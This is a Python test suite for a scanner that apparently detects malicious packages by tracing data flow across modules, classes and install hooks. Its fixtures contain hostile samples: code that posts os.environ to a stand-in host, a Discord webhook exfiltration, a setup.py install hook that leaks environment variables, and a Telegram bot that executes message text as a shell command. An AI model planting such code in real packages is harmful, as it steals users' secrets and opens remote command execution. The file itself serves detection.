"""Values and calls followed from one module to another, and through what classes, branches and frameworks call."""

from __future__ import annotations

import ast
import gc

import pytest

from support.scan import finding_of, rules_of, scan_import, scan_sdist, scan_wheel
from wheelmark.scan import Context, Severity, Verdict, gather
from wheelmark.scan.imports import LocalImport, local_imports

LEAK = "requests.post('https://x.example.invalid', json=dict(os.environ))"
SEND = "import requests\ndef send(what):\n    requests.post('https://x.example.invalid/', json=what)\n"
STEAL = "import os\ndef collect():\n    return dict(os.environ)\n"


@pytest.mark.parametrize(
    "start",
    [
        "from .sending import send\nfrom .reading import collect\nsend(collect())",
        "from . import sending, reading\nsending.send(reading.collect())",
        "import widget.sending as s\nfrom widget.reading import *\ns.send(collect())",
        "from .reading import collect\nfrom .sending import send as go\nfor each in [collect]:\n    go(each())",
    ],
)
def test_secret_is_followed_through_two_other_modules(start: str) -> None:
    report = scan_wheel({"widget/__init__.py": start, "widget/sending.py": SEND, "widget/reading.py": STEAL})
    finding = finding_of(report, "secrets-sent")
    assert (finding.member, finding.line, finding.severity) == ("widget/sending.py", 3, Severity.CRITICAL)


def test_address_from_a_module_of_settings_is_known() -> None:
    settings = "HOST = 'https://discord.com/api/'\nHOOK = HOST + 'webhooks/123456789/' + 'a' * 30\n"
    report = scan_wheel(
        {
            "widget/__init__.py": "import requests\nfrom .settings import HOOK\nrequests.post(HOOK, json={'a': 1})",
            "widget/settings.py": settings,
        }
    )
    assert finding_of(report, "messenger-exfiltration").severity is Severity.CRITICAL


def test_class_of_another_module_keeps_what_it_was_given() -> None:
    report = scan_wheel(
        {
            "widget/__init__.py": "from .agent import Agent\nimport os\nAgent(os.environ).run()",
            "widget/agent.py": (
                "import requests\nclass Base:\n    def __init__(self, loot):\n        self.loot = loot\n"
                "class Agent(Base):\n    def run(self):\n"
                "        requests.post('https://x.example.invalid', data=str(self.loot))\n"
            ),
        }
    )
    assert finding_of(report, "secrets-sent").severity is Severity.CRITICAL


def test_command_class_of_another_module_runs_at_installation() -> None:
    report = scan_sdist(
        {
            "setup.py": "from setuptools import setup\nfrom hooks import After\nsetup(cmdclass={'install': After})",
            "hooks.py": (
                "import os, requests\nfrom setuptools.command.install import install\nclass After(install):\n"
                "    def run(self):\n        requests.post('https://x.example.invalid', json=dict(os.environ))\n"
            ),
        }
    )
    assert finding_of(report, "secrets-sent").context is Context.INSTALL


def test_module_that_a_called_function_imports_runs_with_it() -> None:
    report = scan_sdist(
        {
            "setup.py": "from setuptools import setup\nimport helper\nhelper.prepare()\nsetup(name='widget')",
            "helper.py": "def prepare():\n    from tests import inner\n    inner.go()\n",
            "tests/__init__.py": "",
            "tests/inner.py": f"import os, requests\ndef go():\n    {LEAK}\n",
        }
    )
    assert finding_of(report, "secrets-sent").context is Context.INSTALL


def test_distribution_too_large_to_link_is_still_read_module_by_module() -> None:
    padding = {f"widget/table_{number}.py": "VALUE = '" + "x" * 100_000 + "'\n" for number in range(8)}
    report = scan_wheel({**padding, "widget/__init__.py": STEAL + SEND + "send(collect())"})
    assert report.verdict is Verdict.MALICIOUS


def test_copy_of_a_library_does_what_the_library_does() -> None:
    report = scan_wheel(
        {
            "requests/__init__.py": "from .api import post\n",
            "requests/api.py": "def post(url, **more):\n    return more\n",
            "requests/extra.py": f"import os, requests\n{LEAK}\n",
        }
    )
    assert finding_of(report, "secrets-sent").member == "requests/extra.py"


@pytest.mark.parametrize(
    "body",
    [
        "import sys\nif sys.platform == 'win32':\n    run = one\nelse:\n    run = two\nrun()",
        "import sys\nrun = one if sys.platform == 'win32' else two\nrun()",
        (
            "import sys, threading\nrun = None\nif sys.argv:\n    run = one\nelif sys.path:\n    run = two\n"
            "threading.Thread(target=run).start()"
        ),
    ],
)
def test_each_function_that_a_name_may_stand_for_is_called(body: str) -> None:
    functions = "".join(f"import os, requests\ndef {name}():\n    {LEAK}\n" for name in ("one", "two"))
    report = scan_import(functions + body)
    found = {finding.line for finding in report.findings if finding.rule == "secrets-sent"}
    assert len(found) == 2
    assert all(finding.context is Context.IMPORT for finding in report.findings if finding.rule == "secrets-sent")


@pytest.mark.parametrize(
    "body",
    [
        f"class T(threading.Thread):\n    def run(self):\n        {LEAK}\nT().start()",
        f"class M(type):\n    def __new__(cls, *a):\n        {LEAK}\nclass A(metaclass=M):\n    pass",
        f"class B:\n    def __init_subclass__(cls):\n        {LEAK}\nclass C(B):\n    pass",
        f"class W:\n    def __enter__(self):\n        {LEAK}\nwith W():\n    pass",
        f"class F:\n    def __call__(self):\n        {LEAK}\nF()()",
        f"class P:\n    @property\n    def x(self):\n        {LEAK}\nP().x",
        f"import atexit\n@atexit.register\ndef f():\n    {LEAK}",
        f"import asyncio\nasync def f():\n    {LEAK}\nasyncio.run(f())",
        f"import asyncio\nasync def f():\n    {LEAK}\nasyncio.get_event_loop().run_until_complete(f())",
        f"import sys\ndef f(event, args):\n    {LEAK}\nsys.addaudithook(f)",
        f"def d(cls):\n    {LEAK}\n    return cls\n@d\nclass X:\n    pass",
        f"from concurrent.futures import ThreadPoolExecutor\ndef f():\n    {LEAK}\nThreadPoolExecutor().submit(f)",
    ],
)
def test_what_is_called_without_a_call_in_sight_counts_as_called(body: str) -> None:
    finding = finding_of(scan_import("import os, requests, threading\n" + body), "secrets-sent")
    assert (finding.context, finding.severity) == (Context.IMPORT, Severity.CRITICAL)


def test_message_to_a_bot_that_is_run_as_a_command_is_found() -> None:
    report = scan_import(
        "import subprocess, telebot\nbot = telebot.TeleBot('t')\n@bot.message_handler(commands=['x'])\n"
        "def handle(message):\n    bot.reply_to(message, subprocess.check_output(message.text, shell=True))\n"
    )
    assert "response-executed" in rules_of(report)


def test_ordinary_bot_is_left_alone() -> None:
    report = scan_import(
        "import telebot\nbot = telebot.TeleBot('t')\n@bot.message_handler(commands=['x'])\n"
        "def handle(message):\n    bot.reply_to(message, 'hello ' + message.text)\n"
    )
    assert report.verdict is Verdict.BENIGN


def test_imports_of_the_own_distribution_are_read_off_the_text() -> None:
    modules = {"a": "a/__init__.py", "a.b": "a/b.py", "a.c": "a/c.py", "d": "d.py"}
    source = b"import d, json\nfrom . import b\ndef f():\n    from a.c import x\nfrom .b import (y,\n    z)\n"
    assert local_imports(source, "a", modules) == [
        LocalImport("d.py", at_margin=True),
        LocalImport("a/__init__.py", at_margin=True),
        LocalImport("a/b.py", at_margin=True),
        LocalImport("a/c.py", at_margin=False),
    ]


def test_what_was_read_alone_is_let_go_of_during_the_scan(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gather, "MAX_LINKED_BYTES", 0)  # as for a large distribution
    read, alive = gather._read_module, []

    def watched(state: gather._Gathering, path: str) -> None:
        read(state, path)
        alive.append(sum(type(each) is ast.FunctionDef for each in gc.get_objects()))

    monkeypatch.setattr(gather, "_read_module", watched)
    gc.collect()
    gc.disable()  # as in the scanning process
    try:
        scan_wheel({f"widget/part_{number}.py": "def act():\n    return act()\n" for number in range(5)})
    finally:
        gc.enable()
    assert len(alive) >= 5
    assert alive[-1] == alive[0]
